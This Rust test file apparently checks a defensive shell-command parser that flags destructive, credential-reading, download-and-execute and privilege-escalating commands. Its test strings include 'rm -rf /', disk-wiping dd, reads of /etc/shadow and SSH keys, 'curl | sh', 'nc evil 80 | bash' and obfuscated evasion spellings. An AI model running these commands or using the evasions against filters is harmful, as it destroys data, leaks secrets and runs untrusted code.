//! Table-driven tests of `extract`: every starter-pack shell rule's obvious case and its
//! evasions. Each case is a line and checks on its facts, written as
//! `[who:]field=a,b` (exact list), `field+=a,b` (contains), `field-=a` (does not contain),
//! `who:flag` / `who:!flag` for booleans; `who` is a command name (first command with that
//! name), `?` for the command whose name is dynamic, `*` for any command. Line-level checks:
//! `names=a,b` (every command in order, `?` for dynamic names), `parsed`, `unparsed`,
//! `unparsed~text`.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]
use super::*;

fn facts(line: &str) -> ShellLineFacts {
    extract(line, &ShellLimits::default())
}

fn name_of(c: &ShellCommandFacts) -> &str {
    if c.name.is_empty() {
        "?"
    } else {
        &c.name
    }
}

fn list(value: &str) -> Vec<String> {
    if value.is_empty() {
        Vec::new()
    } else {
        value.split(',').map(str::to_owned).collect()
    }
}

fn field(c: &ShellCommandFacts, name: &str) -> Vec<String> {
    match name {
        "args" => c.args.clone(),
        "flags" => c.flags.clone(),
        "paths" => c.paths.clone(),
        "globs" => c.globs.clone(),
        "wrappers" => c.wrappers.clone(),
        "redirects" => c
            .redirects
            .iter()
            .map(|(op, t)| format!("{op}{t}"))
            .collect(),
        "path" => c.path.iter().cloned().collect(),
        other => panic!("unknown field {other}"),
    }
}

fn flag(c: &ShellCommandFacts, name: &str) -> bool {
    match name {
        "dynamic" => c.dynamic,
        "runs_download" => c.runs_download,
        "fed_by_download" => c.fed_by_download,
        "interpreter_stdin" => c.interpreter_stdin,
        other => panic!("unknown flag {other}"),
    }
}

fn check(line: &str, f: &ShellLineFacts, spec: &str) {
    let ctx = || format!("line {line:?}, check {spec:?}, facts {f:#?}");
    match spec {
        "parsed" => return assert!(f.unparsed.is_none(), "{}", ctx()),
        "unparsed" => return assert!(f.unparsed.is_some() && f.commands.is_empty(), "{}", ctx()),
        _ => {}
    }
    if let Some(text) = spec.strip_prefix("unparsed~") {
        let message = f.unparsed.as_deref().unwrap_or_default();
        return assert!(message.contains(text), "{}", ctx());
    }
    assert!(f.unparsed.is_none(), "unexpected unparsed: {}", ctx());
    if let Some(names) = spec.strip_prefix("names=") {
        let got: Vec<&str> = f.commands.iter().map(name_of).collect();
        return assert_eq!(got, list(names), "{}", ctx());
    }
    let (who, rest) = spec.split_once(':').unwrap_or(("*", spec));
    let targets: Vec<&ShellCommandFacts> = f
        .commands
        .iter()
        .filter(|c| who == "*" || name_of(c) == who)
        .collect();
    assert!(!targets.is_empty(), "no command {who}: {}", ctx());
    let ok = |c: &ShellCommandFacts| -> bool {
        if let Some((name, value)) = rest.split_once("+=") {
            let have = field(c, name);
            list(value).iter().all(|v| have.contains(v))
        } else if let Some((name, value)) = rest.split_once("-=") {
            let have = field(c, name);
            list(value).iter().all(|v| !have.contains(v))
        } else if let Some((name, value)) = rest.split_once('=') {
            field(c, name) == list(value)
        } else if let Some(name) = rest.strip_prefix('!') {
            !flag(c, name)
        } else {
            flag(c, rest)
        }
    };
    if who == "*" && !rest.starts_with('!') && !rest.contains("-=") {
        assert!(targets.iter().any(|c| ok(c)), "{}", ctx());
    } else if who == "*" {
        assert!(targets.iter().all(|c| ok(c)), "{}", ctx());
    } else {
        assert!(ok(targets[0]), "{}", ctx());
    }
}

fn run(cases: &[(&str, &[&str])]) {
    for (line, checks) in cases {
        let f = facts(line);
        for spec in *checks {
            check(line, &f, spec);
        }
    }
}

#[test]
fn sh1_destructive_commands_and_their_spellings() {
    run(&[
        (
            "rm -rf /",
            &[
                "names=rm",
                "rm:flags=-r,-f",
                "rm:paths=/",
                "rm:args=-rf,/",
                "rm:!dynamic",
            ],
        ),
        ("rm -fr /", &["rm:flags=-f,-r"]),
        ("rm -r -f /tmp/x", &["rm:flags=-r,-f", "rm:paths=/tmp/x"]),
        ("rm -Rf /", &["rm:flags=-R,-f"]),
        (
            "rm --recursive --force /",
            &["rm:flags=--recursive,--force"],
        ),
        (
            "rm --recursive --force=yes /",
            &["rm:flags=--recursive,--force"],
        ),
        ("rm -r dir", &["rm:flags=-r"]),
        ("rm -- -rf", &["rm:flags=", "rm:args=--,-rf"]),
        ("\\rm -rf /", &["names=rm", "rm:flags=-r,-f"]),
        ("r''m -rf /", &["names=rm"]),
        ("\"rm\" -rf /", &["names=rm"]),
        ("$'rm' -rf /", &["names=rm"]),
        ("$'\\x72m' -rf /", &["names=rm"]),
        ("r\\m -rf /", &["names=rm"]),
        ("/bin/rm -rf /", &["names=rm", "rm:path=/bin/rm"]),
        ("/usr/bin/../bin/rm -rf /", &["names=rm"]),
        ("rm -rf /*", &["rm:globs=/*", "rm:paths+=/*"]),
        ("rm -rf ~", &["rm:paths=~"]),
        ("find / -delete", &["find:flags=-delete", "find:paths=/"]),
        (
            "find /tmp -name x -exec rm -rf {} \\;",
            &[
                "names=find,rm",
                "rm:wrappers=find",
                "rm:flags=-r,-f",
                "rm:args=-rf,{}",
            ],
        ),
        (
            "find / -execdir shred -u {} +",
            &["names=find,shred", "shred:wrappers=find"],
        ),
        (
            "find / -ok rm {} \\; -exec wipefs {} \\;",
            &["names=find,rm,wipefs"],
        ),
        (
            "mkfs.ext4 /dev/sda1",
            &["names=mkfs.ext4", "mkfs.ext4:paths=/dev/sda1"],
        ),
        ("wipefs -a /dev/sda", &["names=wipefs", "wipefs:flags=-a"]),
        ("shred -u secret.txt", &["names=shred"]),
        (
            "dd if=/dev/zero of=/dev/sda bs=1M",
            &[
                "dd:args=if=/dev/zero,of=/dev/sda,bs=1M",
                "dd:paths=/dev/zero,/dev/sda",
            ],
        ),
        (
            "dd if=/dev/zero of=/dev/null",
            &["dd:paths=/dev/zero,/dev/null"],
        ),
        ("dd of=/dev//sda if=x", &["dd:paths=/dev/sda"]),
        ("shutdown -h now", &["names=shutdown", "shutdown:flags=-h"]),
        ("reboot", &["names=reboot", "reboot:args="]),
        ("init 0", &["names=init", "init:args=0"]),
        ("systemctl reboot", &["systemctl:args=reboot"]),
        ("chmod -R 777 /", &["chmod:flags=-R", "chmod:paths=/"]),
        ("chown -R root:root /", &["chown:flags=-R", "chown:paths=/"]),
        ("time rm -rf /", &["names=rm"]),
        ("{rm,-rf,/}", &["names=?", "?:dynamic"]),
        ("rm -rf / &", &["names=rm"]),
        ("! rm -rf /", &["names=rm"]),
    ]);
}

#[test]
fn wrappers_are_seen_through() {
    run(&[
        (
            "sudo -u root rm -rf /",
            &[
                "names=sudo,rm",
                "rm:wrappers=sudo",
                "rm:flags=-r,-f",
                "sudo:flags=-u",
                "sudo:wrappers=",
            ],
        ),
        ("sudo -uroot -E -- rm -rf /", &["names=sudo,rm"]),
        ("sudo VAR=1 rm -rf /", &["names=sudo,rm"]),
        ("sudo -i", &["names=sudo"]),
        ("sudo -s", &["names=sudo"]),
        ("sudo -l", &["names=sudo"]),
        (
            "sudo -e /etc/shadow",
            &["names=sudo", "sudo:paths=/etc/shadow"],
        ),
        (
            "sudo sudo rm -rf /",
            &["names=sudo,sudo,rm", "rm:wrappers=sudo,sudo"],
        ),
        (
            "doas -u root rm -rf /",
            &["names=doas,rm", "rm:wrappers=doas"],
        ),
        ("pkexec rm -rf /", &["names=pkexec,rm"]),
        ("runuser -u app -- rm -rf /", &["names=runuser,rm"]),
        ("runuser -l app -c 'rm -rf /'", &["names=runuser,rm"]),
        (
            "su - root -c 'rm -rf /'",
            &["names=su,rm", "rm:wrappers=su"],
        ),
        ("su -c 'rm -rf /' root", &["names=su,rm"]),
        ("su -", &["names=su"]),
        (
            "xargs rm -rf",
            &["names=xargs,rm", "rm:wrappers=xargs", "rm:flags=-r,-f"],
        ),
        ("find . | xargs -0 -n 1 rm -rf", &["names=find,xargs,rm"]),
        ("xargs -I {} rm -rf {}", &["names=xargs,rm"]),
        ("env X=1 rm -rf /", &["names=env,rm", "rm:wrappers=env"]),
        ("env -i -u HOME PATH=/bin rm -rf /", &["names=env,rm"]),
        ("env -S 'rm -rf /'", &["names=env,rm"]),
        (
            "nice -n 5 nohup rm -rf /",
            &[
                "names=nice,nohup,rm",
                "rm:wrappers=nice,nohup",
                "nohup:wrappers=nice",
            ],
        ),
        ("nice -5 rm -rf /", &["names=nice,rm"]),
        ("timeout 5 rm -rf /", &["names=timeout,rm"]),
        (
            "timeout -s KILL --preserve-status 5s rm -rf /",
            &["names=timeout,rm"],
        ),
        ("stdbuf -o0 rm -rf /", &["names=stdbuf,rm"]),
        ("stdbuf -o L -e 0 rm -rf /", &["names=stdbuf,rm"]),
        ("exec rm -rf /", &["names=exec,rm"]),
        ("command rm -rf /", &["names=command,rm"]),
        ("command -v rm", &["names=command"]),
        ("builtin rm -rf /", &["names=builtin,rm"]),
        ("setsid rm -rf /", &["names=setsid,rm"]),
        ("flock /tmp/l rm -rf /", &["names=flock,rm"]),
        ("flock -n /tmp/l -c 'rm -rf /'", &["names=flock,rm"]),
        ("ionice -c 3 rm -rf /", &["names=ionice,rm"]),
        ("ionice -c3 -n7 rm -rf /", &["names=ionice,rm"]),
        ("chrt -f 10 rm -rf /", &["names=chrt,rm"]),
        ("chrt -p 10 1234", &["names=chrt"]),
        ("taskset -c 0,1 rm -rf /", &["names=taskset,rm"]),
        ("taskset 0x1 rm -rf /", &["names=taskset,rm"]),
        ("busybox rm -rf /", &["names=busybox,rm"]),
        (
            "busybox sh -c 'rm -rf /'",
            &["names=busybox,sh,rm", "rm:wrappers=busybox,sh"],
        ),
        (
            "watch -n 1 'rm -rf /'",
            &["names=watch,rm", "rm:wrappers=watch"],
        ),
        ("watch -x rm -rf /", &["names=watch,rm"]),
        (
            "eval 'rm -rf /'",
            &["names=eval,rm", "eval:!dynamic", "rm:wrappers=eval"],
        ),
        ("eval rm -rf /", &["names=eval,rm"]),
        (
            "sh -c 'bash -c \"rm -rf /\"'",
            &["names=sh,bash,rm", "rm:wrappers=sh,bash", "sh:!dynamic"],
        ),
        ("bash -lc 'rm -rf /'", &["names=bash,rm"]),
        ("bash -o pipefail -c 'rm -rf /'", &["names=bash,rm"]),
        (
            "sudo nice -n 5 sh -c 'rm -rf /'",
            &["names=sudo,nice,sh,rm", "rm:wrappers=sudo,nice,sh"],
        ),
        ("alias ls='rm -rf /'", &["names=alias,rm"]),
        ("trap 'rm -rf /' EXIT", &["names=trap,rm"]),
        ("script -qc 'rm -rf /' /dev/null", &["names=script,rm"]),
    ]);
}

#[test]
fn every_construct_that_runs_commands_is_walked() {
    run(&[
        ("f(){ rm -rf /; }; f", &["names=rm,f"]),
        ("function f { rm -rf /; }", &["names=rm"]),
        ("(rm -rf /)", &["names=rm"]),
        ("{ rm -rf /; }", &["names=rm"]),
        ("true && rm -rf / || echo", &["names=true,rm,echo"]),
        ("a | b | c", &["names=a,b,c"]),
        ("a; b & c", &["names=a,b,c"]),
        (
            "if true; then rm -rf /; elif x; then y; else z; fi",
            &["names=true,rm,x,y,z"],
        ),
        ("while true; do rm -rf /; done", &["names=true,rm"]),
        ("until false; do rm -rf /; done", &["names=false,rm"]),
        ("for i in $(ls); do rm -rf $i; done", &["names=ls,rm"]),
        ("case x in x) rm -rf /;; esac", &["names=rm"]),
        ("echo $(rm -rf /)", &["names=rm,echo"]),
        ("echo \"$(rm -rf /)\"", &["names=rm,echo"]),
        ("echo `rm -rf /`", &["names=rm,echo"]),
        ("x=$(rm -rf /)", &["names=rm"]),
        ("FOO=1 rm -rf /", &["names=rm", "rm:flags=-r,-f"]),
        ("cat <(rm -rf /)", &["names=rm,cat"]),
        ("cat <<EOF\n$(rm -rf /)\nEOF", &["names=rm,cat"]),
        ("cat <<'EOF'\n$(rm -rf /)\nEOF", &["names=cat"]),
        ("[[ -n $(rm -rf /) ]]", &["names=rm"]),
        ("(( $(rm -rf /) + 1 ))", &["names=rm"]),
        ("coproc rm -rf /", &["names=rm"]),
        ("echo $(echo $(rm -rf /))", &["names=rm,echo,echo"]),
        ("", &["parsed", "names="]),
        ("# just a comment", &["parsed", "names="]),
    ]);
}

#[test]
fn sh2_protected_paths() {
    run(&[
        ("cat /etc/shadow", &["cat:paths=/etc/shadow"]),
        ("cat /etc//shadow", &["cat:paths=/etc/shadow"]),
        ("cat /etc/./shadow", &["cat:paths=/etc/shadow"]),
        ("cat /etc/../etc/shadow", &["cat:paths=/etc/shadow"]),
        ("cat \"/etc/shadow\"", &["cat:paths=/etc/shadow"]),
        ("cat '/etc/gshadow'", &["cat:paths=/etc/gshadow"]),
        ("cat /etc/sh''adow", &["cat:paths=/etc/shadow"]),
        (
            "cat < /etc/shadow",
            &["cat:redirects=</etc/shadow", "cat:paths=/etc/shadow"],
        ),
        ("cat 0</etc//shadow", &["cat:paths=/etc/shadow"]),
        ("cp ~/.ssh/id_rsa /tmp", &["cp:paths=~/.ssh/id_rsa,/tmp"]),
        ("cat ~/.ssh/id_rsa.pub", &["cat:paths=~/.ssh/id_rsa.pub"]),
        (
            "cat /etc/sha*",
            &["cat:paths+=/etc/shadow", "cat:globs=/etc/sha*"],
        ),
        ("cat /etc/sh?dow", &["cat:paths+=/etc/shadow"]),
        ("cat /e*/[s]hadow", &["cat:paths+=/etc/shadow"]),
        ("cat /etc/*", &["cat:paths+=/etc/shadow,/etc/gshadow"]),
        ("cat '/etc/sha*'", &["cat:paths=/etc/sha*", "cat:globs="]),
        ("cat ~/.ssh/id_*", &["cat:paths+=~/.ssh/id_rsa"]),
        ("cat ~/.ssh/*.pub", &["cat:paths=~/.ssh/*.pub"]),
        (
            "cat /root/.ssh/authorized_keys",
            &["cat:paths=/root/.ssh/authorized_keys"],
        ),
        ("cat /r??t/.ssh/config", &["cat:paths+=/root/.ssh/config"]),
        (
            "cat /etc/{passwd,shadow}",
            &["cat:paths+=/etc/shadow,/etc/passwd"],
        ),
        ("cat ../../../etc/shadow", &["cat:paths+=/etc/shadow"]),
        ("dd if=/etc/shadow of=/tmp/x", &["dd:paths+=/etc/shadow"]),
        (
            "> /etc/shadow",
            &[
                "names=?",
                "?:redirects=>/etc/shadow",
                "?:paths=/etc/shadow",
                "?:!dynamic",
            ],
        ),
        (
            "echo x >> /etc/shadow",
            &["echo:redirects=>>/etc/shadow", "echo:paths=/etc/shadow"],
        ),
        ("echo x &> /tmp/log", &["echo:redirects=&>/tmp/log"]),
        ("tar -czf /tmp/k.tgz /root/.ssh", &["tar:paths+=/root/.ssh"]),
        (
            "scp /root/.ssh/id_ed25519 host:/tmp",
            &["scp:paths+=/root/.ssh/id_ed25519,/tmp"],
        ),
        ("grep -r x --file=/etc/shadow", &["grep:paths=/etc/shadow"]),
        (
            "sudo cat /etc/shadow",
            &["sudo:paths=/etc/shadow", "cat:paths=/etc/shadow"],
        ),
        ("cat /etc/passwd", &["cat:paths=/etc/passwd"]),
        ("ls 2>&1", &["ls:redirects=2>&1", "ls:paths="]),
        ("{ cat; } < /etc/shadow", &["cat:paths=/etc/shadow"]),
        (
            "cat \"$HOME/.ssh/id_rsa\"",
            &["cat:paths=$HOME/.ssh/id_rsa"],
        ),
    ]);
}

#[test]
fn sh3_downloads_into_interpreters() {
    run(&[
        (
            "curl http://x | sh",
            &[
                "curl:!fed_by_download",
                "sh:fed_by_download",
                "sh:runs_download",
                "sh:dynamic",
            ],
        ),
        ("wget -O- http://x | bash", &["bash:runs_download"]),
        (
            "curl x | tee f | sh",
            &["tee:fed_by_download", "sh:runs_download"],
        ),
        ("curl x | base64 -d | sh", &["sh:runs_download"]),
        (
            "bash <(curl x)",
            &["names=curl,bash", "bash:runs_download", "bash:dynamic"],
        ),
        (
            "sh -c \"$(curl x)\"",
            &["names=curl,sh", "sh:runs_download", "sh:dynamic"],
        ),
        (
            "eval \"$(curl x)\"",
            &["eval:runs_download", "eval:dynamic"],
        ),
        ("python3 <(wget -qO- x)", &["python3:runs_download"]),
        (
            "curl x | sudo bash",
            &[
                "bash:runs_download",
                "bash:wrappers=sudo",
                "sudo:fed_by_download",
            ],
        ),
        ("curl x | sudo -u root sh -s", &["sh:runs_download"]),
        ("nc evil 80 | bash", &["bash:runs_download"]),
        ("bash < /dev/tcp/evil/80", &["bash:runs_download"]),
        ("source <(curl x)", &["source:runs_download"]),
        (". <(curl -s x)", &["names=curl,.", ".:runs_download"]),
        ("curl x | perl", &["perl:runs_download"]),
        ("curl x | python3 -", &["python3:runs_download"]),
        ("bash <<< \"$(curl x)\"", &["bash:runs_download"]),
        ("$(curl x)", &["?:runs_download", "?:dynamic"]),
        ("curl x | (sh)", &["sh:runs_download"]),
        ("curl x | { bash; }", &["bash:runs_download"]),
        ("curl x | tee >(sh)", &["sh:runs_download"]),
        ("bash < <(curl x)", &["bash:runs_download"]),
        (
            "curl x | xargs -I{} sh -c '{}'",
            &["sh:fed_by_download", "sh:runs_download"],
        ),
        ("sh -c \"$(wget -O- x | base64 -d)\"", &["sh:runs_download"]),
        (
            "curl x | python3 -m json.tool",
            &[
                "python3:fed_by_download",
                "python3:!runs_download",
                "python3:!dynamic",
            ],
        ),
        ("curl -o f x && sh f", &["sh:!runs_download", "sh:!dynamic"]),
        ("curl x > f", &["names=curl", "*:!runs_download"]),
        (
            "curl x | grep y",
            &["grep:fed_by_download", "grep:!runs_download"],
        ),
    ]);
}

#[test]
fn sh4_privilege_escalation_is_reported() {
    run(&[
        ("sudo ls", &["names=sudo,ls", "ls:wrappers=sudo"]),
        ("sudo -u postgres psql", &["names=sudo,psql"]),
        ("pkexec ls", &["names=pkexec,ls"]),
        ("doas ls", &["names=doas,ls"]),
        (
            "sudo $cmd",
            &["names=sudo,?", "?:dynamic", "?:wrappers=sudo"],
        ),
    ]);
}

#[test]
fn sh5_dynamic_code() {
    run(&[
        ("$x", &["names=?", "?:dynamic"]),
        ("\"$cmd\" arg", &["?:dynamic", "?:args=arg"]),
        ("${x}rm -rf /", &["?:dynamic"]),
        (
            "$(echo rm) -rf /",
            &["names=echo,?", "?:dynamic", "?:args=-rf,/"],
        ),
        ("`which rm` -rf /", &["names=which,?", "?:dynamic"]),
        ("rm${IFS}-rf /", &["names=?", "?:dynamic"]),
        ("/bin/r? -rf /", &["?:dynamic"]),
        ("source $f", &["source:dynamic"]),
        (". \"$f\"", &[".:dynamic"]),
        (". ./lit.sh", &[".:!dynamic"]),
        ("source ~/.bashrc", &["source:!dynamic"]),
        ("eval \"$cmd\"", &["eval:dynamic"]),
        (
            "echo x | sh",
            &["sh:dynamic", "sh:!runs_download", "sh:interpreter_stdin"],
        ),
        ("echo ls | bash -s", &["bash:dynamic"]),
        ("bash <<EOF\nls\nEOF", &["bash:dynamic"]),
        ("bash <<< 'ls'", &["bash:dynamic"]),
        ("cat x | python3", &["python3:dynamic"]),
        ("python3 -c 'print(1)'", &["python3:dynamic"]),
        ("python -Bc 'print(1)'", &["python:dynamic"]),
        ("perl -e 'print 1'", &["perl:dynamic"]),
        ("perl -ne 'print' f", &["perl:dynamic"]),
        ("ruby -e 'x'", &["ruby:dynamic"]),
        ("node -e 'x'", &["node:dynamic"]),
        ("node --eval 'x'", &["node:dynamic"]),
        ("php -r 'x'", &["php:dynamic"]),
        ("awk 'BEGIN{system(\"rm -rf /\")}'", &["awk:dynamic"]),
        ("awk '{print $1}' f", &["awk:!dynamic"]),
        ("sh -c \"$cmd\"", &["sh:dynamic"]),
        (
            "sh -c 'ls'",
            &["names=sh,ls", "sh:!dynamic", "ls:wrappers=sh"],
        ),
        ("python3 script.py", &["python3:!dynamic"]),
        ("sh script.sh", &["sh:!dynamic", "sh:!interpreter_stdin"]),
        ("sh < script.sh", &["sh:!dynamic"]),
        ("bash", &["bash:!dynamic", "bash:interpreter_stdin"]),
        ("bash \"$script\"", &["bash:dynamic"]),
        ("ls", &["ls:!dynamic", "ls:!interpreter_stdin"]),
    ]);
}

#[test]
fn sh6_service_and_package_changes() {
    run(&[
        (
            "systemctl restart app",
            &["systemctl:args=restart,app", "systemctl:flags="],
        ),
        (
            "systemctl --now enable app",
            &["systemctl:args=--now,enable,app", "systemctl:flags=--now"],
        ),
        ("service nginx stop", &["service:args=nginx,stop"]),
        ("kill -9 1", &["kill:flags=-9", "kill:args=-9,1"]),
        ("kill -s KILL 1", &["kill:args=-s,KILL,1"]),
        ("pkill -f x", &["names=pkill"]),
        ("killall x", &["names=killall"]),
        ("apt-get install x", &["apt-get:args=install,x"]),
        (
            "apt-get -y install x",
            &["apt-get:args=-y,install,x", "apt-get:flags=-y"],
        ),
        ("apt update", &["apt:args=update"]),
        ("yum remove x", &["yum:args=remove,x"]),
        ("dpkg -i x.deb", &["dpkg:flags=-i"]),
        ("pip install x", &["pip:args=install,x"]),
        ("pip3 uninstall -y x", &["pip3:args=uninstall,-y,x"]),
        (
            "python3 -m pip install x",
            &["python3:args=-m,pip,install,x", "python3:!dynamic"],
        ),
        ("iptables -F", &["iptables:flags=-F"]),
        ("nft flush ruleset", &["nft:args=flush,ruleset"]),
    ]);
}

#[test]
fn read_only_inspection_is_plain() {
    run(&[
        (
            "journalctl -u app",
            &[
                "names=journalctl",
                "journalctl:flags=-u",
                "journalctl:args=-u,app",
                "journalctl:!dynamic",
            ],
        ),
        ("systemctl status app", &["systemctl:args=status,app"]),
        (
            "ls -la",
            &[
                "names=ls",
                "ls:flags=-l,-a",
                "ls:args=-la",
                "ls:paths=",
                "ls:wrappers=",
            ],
        ),
        (
            "tail -n 100 /var/log/syslog",
            &["tail:paths=/var/log/syslog", "tail:flags=-n"],
        ),
        (
            "grep -r foo /var/log | head -5",
            &["names=grep,head", "head:!fed_by_download"],
        ),
        ("ps aux", &["ps:args=aux"]),
        ("df -h && free -m && uptime", &["names=df,free,uptime"]),
        (
            "cat /var/log/app.log | grep ERROR | tail",
            &["names=cat,grep,tail", "*:!dynamic"],
        ),
    ]);
}

#[test]
fn bad_input_is_unparsed_with_a_reason() {
    let long = format!("echo {}", "a".repeat(70 * 1024));
    // `eval eval ... ls` nests one code string per `eval` without quoting growth.
    let deep_c = format!("{}ls", "eval ".repeat(20));
    let deep_subst = format!("{}ls{}", "$(echo ".repeat(30), ")".repeat(30));
    run(&[
        ("echo 'x", &["unparsed", "unparsed~quote"]),
        ("echo \"x", &["unparsed"]),
        ("ls |", &["unparsed"]),
        ("ls &&", &["unparsed"]),
        ("if true; then", &["unparsed"]),
        ("while true; do ls", &["unparsed"]),
        ("cat <<EOF\nhello", &["unparsed"]),
        ("echo $(ls", &["unparsed"]),
        (")", &["unparsed"]),
        ("ls \0 -la", &["unparsed~NUL"]),
        ("sh -c 'echo \"x'", &["unparsed"]),
        (&long, &["unparsed~bytes"]),
        (&deep_c, &["unparsed~levels"]),
        (&deep_subst, &["unparsed"]),
    ]);
}

fn shell_quote(code: &str) -> String {
    format!("'{}'", code.replace('\'', "'\\''"))
}

#[test]
fn nesting_within_limits_is_fine() {
    let c = (0..5).fold("rm -rf /".to_owned(), |code, _| {
        format!("sh -c {}", shell_quote(&code))
    });
    let f = facts(&c);
    assert!(f.unparsed.is_none(), "{f:?}");
    let rm = f.commands.iter().find(|c| c.name == "rm").unwrap();
    assert_eq!(rm.wrappers, ["sh"; 5]);
}

#[test]
fn huge_and_deep_lines_return_promptly_on_a_small_stack() {
    let result = std::thread::Builder::new()
        .stack_size(2 * 1024 * 1024)
        .spawn(|| {
            let started = std::time::Instant::now();
            let limits = ShellLimits::default();
            let pipeline = vec!["a"; 10_000].join(" | ");
            let f = extract(&pipeline, &limits);
            assert!(
                f.unparsed.as_deref().unwrap_or_default().contains("1024"),
                "{:?}",
                f.unparsed
            );
            let list = vec!["a"; 10_000].join(" && ");
            assert!(extract(&list, &limits).unparsed.is_some());
            let parens = format!("{}ls{}", "(".repeat(10_000), ")".repeat(10_000));
            assert!(extract(&parens, &limits).unparsed.is_some());
            let braces = format!("{}ls;{}", "{ ".repeat(5_000), " }".repeat(5_000));
            assert!(extract(&braces, &limits).unparsed.is_some());
            let ifs = format!(
                "{}ls{}",
                "if true; then ".repeat(3_000),
                "; fi".repeat(3_000)
            );
            assert!(extract(&ifs, &limits).unparsed.is_some());
            let subst = format!("{}ls{}", "$(".repeat(10_000), ")".repeat(10_000));
            assert!(extract(&subst, &limits).unparsed.is_some());
            let nots = format!("[[ {} -n x ]]", "! ".repeat(10_000));
            assert!(extract(&nots, &limits).unparsed.is_some());
            let ands = format!("[[ {} -n x ]]", "-n x && ".repeat(5_000));
            assert!(extract(&ands, &limits).unparsed.is_some());
            let heredocs = format!("cat {}\nEOF\n", "<<EOF ".repeat(2_000));
            let message = extract(&heredocs, &limits).unparsed.unwrap();
            assert!(message.len() < 400, "{message}");
            // Within limits: a 40-deep subshell still parses.
            let ok = format!("{}rm -rf /{}", "(".repeat(40), ")".repeat(40));
            let f = extract(&ok, &limits);
            assert!(f.unparsed.is_none(), "{:?}", f.unparsed);
            started.elapsed()
        })
        .unwrap()
        .join()
        .expect("no stack overflow");
    assert!(
        result < std::time::Duration::from_secs(20),
        "took {result:?}"
    );
}

#[test]
fn limits_are_configurable() {
    let limits = ShellLimits {
        max_bytes: 10,
        max_commands: 2,
        max_depth: 1,
    };
    assert!(extract("echo 12345678901", &limits)
        .unparsed
        .unwrap()
        .contains("10 bytes"));
    assert!(extract("a;b;c", &limits)
        .unparsed
        .unwrap()
        .contains("2 commands"));
    assert!(extract("a;b", &limits).unparsed.is_none());
    assert!(extract(
        "sh -c 'sh -c ls'",
        &ShellLimits {
            max_depth: 1,
            ..ShellLimits::default()
        }
    )
    .unparsed
    .is_some());
}
